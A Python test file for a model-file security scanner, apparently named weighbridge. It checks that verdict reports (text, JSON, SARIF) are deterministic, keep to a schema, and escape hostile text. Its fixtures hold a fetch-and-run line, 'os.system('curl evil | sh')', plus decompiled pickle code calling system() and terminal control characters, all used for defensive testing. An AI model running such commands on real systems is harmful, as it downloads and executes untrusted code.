"""Reports: the same bytes for the same verdict, the published schemas, and nothing from a file unescaped."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st

from weighbridge.detail import Decision, Detail, Import, Listing, Share, Weights
from weighbridge.digest import Digest
from weighbridge.documents import Words
from weighbridge.evidence.base import Evidence, Method, Signature
from weighbridge.facts import Anomaly, Fact, Gap, Member, Metadata, Native, Observed, Tensor
from weighbridge.judgement import Finding, Judgement, Unknown
from weighbridge.location import Location
from weighbridge.policy import Coverage, Examined, Opinion, Outcome, Policy, Verdict, Waiver, judge, refuse
from weighbridge.refusals import BundleOlder, EvidenceError, NotApproved
from weighbridge.report import FORMATS
from weighbridge.report.base import UNMET_TITLE, Style, counted, describe, sized, unmet_title
from weighbridge.requirements import Unmet
from weighbridge.rules import Examples, Match, References, Rule, Severity

SCHEMA = json.loads((Path(__file__).parent.parent / "docs/schema/verdict-1.schema.json").read_text())
DIGEST = Digest.of(b"a model")
PICKLE = Location(("models/a b.pt", "archive/data.pkl"))


def rule(number: int, severity: Severity, title: str) -> Rule:
    return Rule(
        id=f"TST{number:03}",
        title=title,
        severity=severity,
        description="Runs a command  with the rights of whoever loads the file,\nwhile it is loaded.",
        remediation="Ask for safetensors.",
        match=Match(names={"os": Words(("system",))}),
        examples=Examples(match=("a",), no_match=("b",)),
        references=References(
            cwe=(78, 502), atlas=("AML.T0010",), owasp=("LLM03:2025",), advisories=("CVE-2025-1716",)
        ),
    )


PROCESS = rule(1, Severity.CRITICAL, "Pickle starts a process")
ODD = rule(2, Severity.LOW, "Archive is read in two ways")


def observed(offset: int, name: str, expression: str, kind: str = "call", spelled: str = "") -> Observed:
    return Observed(
        location=PICKLE.at(offset), kind=kind, name=name, expression=expression, form="REDUCE", spelled=spelled
    )


def examined(path: str, judgement: Judgement, **coverage: int) -> Examined:
    return Examined(
        path=path,
        size=sum(coverage.values()),
        digest=DIGEST,
        formats=("zip", "torch-zip"),
        coverage=Coverage(**coverage),
        judgement=judgement,
    )


def weigh(*files: Examined, waivers: tuple[Waiver, ...] = ()) -> Verdict:
    return judge(
        files,
        Policy(name="default", waivers=waivers, digest=f"sha256:{'1' * 64}"),
        today=date(2026, 1, 31),
        rules_digest=f"sha256:{'2' * 64}",
        version="1.2.3",
    )


def everything() -> Verdict:
    """Return a verdict with something in each of its parts, hostile text included."""
    call = observed(0x2F, "os.system", "os.system('curl evil | sh')", spelled="posix system")
    judgement = Judgement(
        findings=(
            Finding(rule=PROCESS, fact=call),
            Finding(rule=PROCESS, fact=observed(0x40, "os.system", "os.system('again')"), repeated=41),
            Finding(rule=ODD, fact=Anomaly(location=PICKLE.at(0), code="zip-crc", detail="\x1b[2J\u202e")),
        ),
        unknowns=(
            Unknown(fact=observed(0x60, "lab.Net", "lab.Net.__new__()"), reason="no trust entry names it", repeated=2),
        ),
        gaps=(
            Gap(location=Location(("models/a b.pt",), 9), reason="zip: the CRC is wrong", size=2048),
            Gap(location=Location(("models/a b.pt",), 99), reason="too many members", limit="max_members"),
        ),
    )
    waived = Judgement(findings=(Finding(rule=ODD, fact=Anomaly(location=Location(("b",)), code="x", detail="y")),))
    waiver = Waiver(
        rule="TST002", digest=str(DIGEST), reason="known", approver="the team", expires=date(2026, 7, 1), subject="x"
    )
    verdict = weigh(
        examined("models/a b.pt", judgement, parsed=100, inert=1 << 20, unexamined=2048),
        examined("b", waived, parsed=10),
        waivers=(waiver, replace(waiver, expires=date(2020, 1, 1))),
    )
    return replace(
        refuse(verdict, unmet()),
        files=tuple(replace(file, detail=detail()) for file in verdict.files),
        excluded=("models/README.md",),
        opinions=(Opinion(path="b", by="fickling 0.1", says="likely safe", details=("one\x07", "two")),),
        evidence=(evidence(),),
        history=(Decision(what="Resolved", who="hub", when=datetime(2026, 1, 30, tzinfo=UTC), note="main is abc"),),
    )


def detail(text: str = "curl <evil>", name: str = "os.system") -> Detail:
    """Return what the HTML report shows of a file besides, hostile text included."""
    tensor = Tensor(location=PICKLE, name=f"layer.{text}", dtype="F32", shape=(2, 3), size=24)
    return Detail(
        imports=(
            Import(name=name, status="dangerous", uses=42, because="Pickle starts a process [TST001]"),
            Import(name="lab.Net", status="unknown", uses=3, because="no trust entry names it"),
            Import(name="collections.OrderedDict", status="trusted", uses=1, because=""),
        ),
        listings=(
            Listing(
                location=PICKLE,
                protocol=2,
                size=99,
                complete=True,
                decompiled=True,
                lines=("from os import system", f"result = system('{text}')"),
            ),
        ),
        weights=Weights(
            count=2,
            size=32,
            shares=(Share(dtype="F32", count=1, size=24), Share(dtype="F16", count=1, size=8)),
            largest=(tensor, replace(tensor, name="bias", dtype="F16", shape=(), size=8)),
        ),
    )


def unmet(said: str = "nobody signed <b>it</b>", where: str = "hf://lab/model@abc") -> tuple[Unmet, ...]:
    """Return requirements of each kind that are not met: of the model, of a file, and of one that brings no way out."""
    return (
        Unmet(code="SIG_MISSING", where=where, reason=said, fix="ask the lab to sign it"),
        Unmet(code="FORMAT", where="models/a b.pt", reason="the policy allows no torch-zip", fix="convert it"),
        Unmet(code="FORMAT", where="b", reason="the policy allows no torch-zip", fix=""),
    )


def evidence() -> Evidence:
    signature = Signature(
        method=Method.SIGSTORE,
        signer="the lab",
        identity="release@lab.example",
        issuer="https://accounts.example",
        signed_at=datetime(2026, 1, 29, 12, tzinfo=UTC),
        payload_type="application/vnd.in-toto+json",
        payload=b"{}",
        bundle=DIGEST,
    )
    return Evidence(kind="signature", format="oms-1.0", subject=DIGEST, signature=signature, covered=("b",))


def passing() -> Verdict:
    return weigh(examined("a.pt", Judgement(), parsed=10))


def render(name: str, verdict: Verdict, **style: Any) -> str:
    return "".join(f"{line}\n" for line in FORMATS[name]()(verdict, Style(**style)))


@pytest.mark.parametrize("name", FORMATS)
def test_golden(name: str, golden: Callable[[str, str], None]) -> None:
    text = re.sub(r"<style>.*?</style>|sha256-[^;]*", "…", render(name, everything()), flags=re.DOTALL)
    golden(f"verdict.{name}", text)


def test_golden_verbose_text(golden: Callable[[str, str], None]) -> None:
    golden("verdict.verbose.text", render("text", everything(), verbose=True))


@pytest.mark.parametrize("name", FORMATS)
def test_the_same_verdict_gives_the_same_bytes(name: str) -> None:
    assert render(name, everything()) == render(name, everything())


@pytest.mark.parametrize("verdict", [everything(), passing(), weigh()], ids=["everything", "pass", "no file"])
def test_json_keeps_to_the_published_schema(verdict: Verdict) -> None:
    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    jsonschema.validate(json.loads(render("json", verdict)), SCHEMA)


@pytest.mark.parametrize("key", ["outcome", "findings", "gaps", "unknowns", "coverage"])
def test_the_schema_refuses_a_document_without(key: str) -> None:
    document = json.loads(render("json", everything()))
    del document[key]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, SCHEMA)


@pytest.mark.parametrize("name", FORMATS)
@given(text=st.text(st.characters(codec=None), max_size=40), path=st.text(min_size=1, max_size=20))
def test_text_from_a_file_never_reaches_the_output_unescaped(name: str, text: str, path: str) -> None:
    place = Location((path.replace("\0", "") or "x", text))
    facts: list[Fact] = [
        Observed(location=place, kind="call", name=text, expression=text, spelled=text),
        Anomaly(location=place, code="code", detail=text),
        Native(location=place, type="elf", detail=text),
        Member(location=place, name=text, size=1, target=text),
        Metadata(location=place, key=text, value=text),
        Tensor(location=place, name=text, dtype=text, shape=(1,), size=4),
    ]
    judgement = Judgement(
        findings=tuple(Finding(rule=PROCESS, fact=fact) for fact in facts),
        unknowns=tuple(Unknown(fact=fact, reason=text) for fact in facts),
        gaps=(Gap(location=place, reason=text),),
    )
    verdict = replace(weigh(examined(place.path[0], judgement, parsed=1)), excluded=(text,), source=text)
    verdict = refuse(verdict, (Unmet(code="FORMAT", where=text, reason=text, fix=text),))
    verdict = replace(verdict, files=tuple(replace(file, detail=detail(text, text)) for file in verdict.files))
    verdict = replace(verdict, history=(Decision(what=text, who=text, note=text),))
    lines = list(FORMATS[name]()(verdict, Style(verbose=True)))
    assert all(line.isprintable() for line in lines)
    assert "\n".join(lines).encode()


def test_color_is_the_only_control_character_and_only_when_asked() -> None:
    plain, colored = render("text", everything()), render("text", everything(), color=True)
    assert re.sub(r"\x1b\[[0-9]*m", "", colored) == plain
    assert colored.startswith("\x1b[31mfail\x1b[0m: ")


def test_the_first_line_is_the_verdict() -> None:
    assert render("text", passing(), quiet=True) == (
        "pass: a.pt: loading does nothing that the policy default refuses\n"
    )
    assert render("text", weigh(), quiet=True) == "inconclusive: there was no file to scan\n"


def test_the_text_fits_a_screen_however_much_is_found() -> None:
    many = Judgement(
        findings=tuple(Finding(rule=PROCESS, fact=observed(n, "os.system", "os.system('x')")) for n in range(500)),
        unknowns=tuple(Unknown(fact=observed(n, f"lab.C{n}", "lab.C()"), reason="why") for n in range(500)),
        gaps=tuple(Gap(location=PICKLE.at(n), reason="why") for n in range(500)),
    )
    verdict = weigh(examined("a.pt", many, parsed=1))
    assert render("text", verdict).count("\n") <= 60
    assert render("text", verdict, verbose=True).count("\n") > 2000


def sarif() -> dict[str, Any]:
    run: dict[str, Any] = json.loads(render("sarif", everything()))["runs"][0]
    return run


def test_sarif_has_what_github_asks_of_a_rule() -> None:
    rules = sarif()["tool"]["driver"]["rules"]
    assert [one["id"] for one in rules] == ["TST001", "TST002", "UNK001", "SIG_MISSING", "FORMAT"]
    for one in rules:
        assert one["shortDescription"]["text"] and one["fullDescription"]["text"] and one["help"]["markdown"]
        assert len(one["fullDescription"]["text"]) <= 1024
        assert 0 < float(one["properties"]["security-severity"]) <= 10
        assert "security" in one["properties"]["tags"]
    assert "external/cwe/cwe-502" in rules[0]["properties"]["tags"]


def test_sarif_has_what_github_asks_of_a_result() -> None:
    run = sarif()
    assert len(run["results"]) == 8
    for result in run["results"]:
        assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
        physical = result["locations"][0]["physicalLocation"]
        assert physical["artifactLocation"] == {"uri": physical["artifactLocation"]["uri"], "uriBaseId": "%SRCROOT%"}
        assert physical["region"]["startLine"] == 1
        assert re.fullmatch(r"[0-9a-f]{32}:[0-9]+", result["partialFingerprints"]["primaryLocationLineHash"])
    uris = {result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for result in run["results"]}
    assert uris == {"models/a%20b.pt", "b", "hf%3A//lab/model%40abc"}
    prints = [result["partialFingerprints"]["primaryLocationLineHash"] for result in run["results"]]
    assert len(set(prints)) == len(prints)


def test_sarif_fingerprints_outlive_a_shift_of_offsets() -> None:
    def prints(offset: int) -> str:
        finding = Finding(rule=PROCESS, fact=observed(offset, "os.system", "os.system('x')"))
        text = render("sarif", weigh(examined("a.pt", Judgement(findings=(finding,)), parsed=1)))
        result = json.loads(text)["runs"][0]["results"][0]
        return str(result["partialFingerprints"])

    assert prints(1) == prints(100)


def test_sarif_byte_regions_are_those_of_the_file() -> None:
    inside, outside = sarif()["results"][3], sarif()["results"][-1]
    assert "byteOffset" not in inside["locations"][0]["physicalLocation"]["region"]
    assert inside["locations"][0]["logicalLocations"][0]["fullyQualifiedName"] == "models/a b.pt!archive/data.pkl@0x2f"
    assert outside["locations"][0]["physicalLocation"]["region"] == {"startLine": 1, "byteOffset": 0, "byteLength": 1}


def test_sarif_tells_gaps_as_errors_and_waivers_as_suppressions() -> None:
    run = sarif()
    (invocation,) = run["invocations"]
    assert [note["level"] for note in invocation["toolExecutionNotifications"]] == ["error", "error"]
    assert (invocation["executionSuccessful"], invocation["exitCode"]) == (True, 1)
    suppressed = [result for result in run["results"] if "suppressions" in result]
    assert [result["suppressions"][0]["status"] for result in suppressed] == ["accepted"]
    assert {taxon["id"] for taxon in run["taxonomies"][0]["taxa"]} == {"78", "502"}


def test_sarif_tells_what_is_required_as_results_of_level_error() -> None:
    results = sarif()["results"][:3]
    assert [(one["ruleId"], one["level"]) for one in results] == [
        ("SIG_MISSING", "error"),
        ("FORMAT", "error"),
        ("FORMAT", "error"),
    ]
    assert results[0]["message"]["text"] == ("hf://lab/model@abc: nobody signed <b>it</b>. Fix: ask the lab to sign it")
    local = refuse(passing(), unmet(where="file:///models/a b@abc"))
    (place, *_) = json.loads(render("sarif", local))["runs"][0]["results"][0]["locations"]
    assert place["physicalLocation"]["artifactLocation"] == {"uri": "file:///models/a%20b%40abc"}


def test_every_refusal_of_a_signature_has_a_title() -> None:
    codes = {one.code for one in EvidenceError.__subclasses__() if one not in (NotApproved, BundleOlder)}
    assert len(codes) > 10
    for code in codes:
        assert unmet_title(replace(unmet()[0], code=code)) != UNMET_TITLE, code
    assert unmet_title(replace(unmet()[0], code="SOMETHING_ELSE")) == UNMET_TITLE


@pytest.mark.parametrize("name", FORMATS)
def test_what_is_required_is_told_with_the_way_out_by_every_report(name: str) -> None:
    text = re.sub(r"&#(\d+);", lambda match: chr(int(match[1])), render(name, refuse(passing(), unmet("nobody did"))))
    for one in unmet("nobody did"):
        assert one.reason in text
        assert one.fix in text or name == "gitlab-codequality", "it has no place for that"


def test_the_first_line_counts_files_in_good_english() -> None:
    several = weigh(examined("a.pt", Judgement(), parsed=1), examined("b.pt", Judgement(), parsed=1))
    assert render("text", several, quiet=True) == (
        "pass: 2 files: loading does nothing that the policy default refuses\n"
    )
    assert render("text", refuse(several, unmet()[:1]), quiet=True) == "fail: 1 requirement of the policy not met\n"
    gap = Judgement(gaps=(Gap(location=PICKLE, reason="why"),))
    mixed = weigh(examined("a.pt", gap, parsed=1), examined("b", gap, parsed=1), examined("c", Judgement(), parsed=1))
    assert render("text", mixed, quiet=True) == "inconclusive: 2 of 3 files: 2 parts not understood\n"


def test_json_tells_the_steps_of_the_decision() -> None:
    assert json.loads(render("json", everything()))["history"] == [
        {"what": "Resolved", "who": "hub", "when": "2026-01-30T00:00:00+00:00", "note": "main is abc"}
    ]


def test_an_absolute_path_is_a_file_address() -> None:
    finding = Finding(rule=PROCESS, fact=replace(observed(1, "x", "x()"), location=Location(("/models/a b.pt",))))
    text = render("sarif", weigh(examined("/models/a b.pt", Judgement(findings=(finding,)), parsed=1)))
    assert '"uri": "file:///models/a%20b.pt"' in text
    assert "%SRCROOT%/" not in text


def test_an_unwaived_gap_is_told_with_the_option_to_raise() -> None:
    assert "; raise it with --max-members" in render("text", everything())


def test_a_member_and_a_link_are_told_apart() -> None:
    link = Member(location=PICKLE, name="w", size=0, type="symlink", target="/etc")
    assert describe(link) == "symlink w -> /etc"
    assert describe(replace(link, type="file", target="")) == "file w"


def test_numbers_are_short() -> None:
    assert [counted(n, "file") for n in (0, 1, 1234)] == ["0 files", "1 file", "1 234 files"]
    assert [sized(n) for n in (0, 1023, 1024, 3 << 30)] == ["0 B", "1023 B", "1.0 KiB", "3.0 GiB"]


def test_opinions_change_nothing() -> None:
    opinion = Opinion(path="a.pt", by="another", says="overtly malicious")
    assert replace(passing(), opinions=(opinion,)).outcome is Outcome.PASS
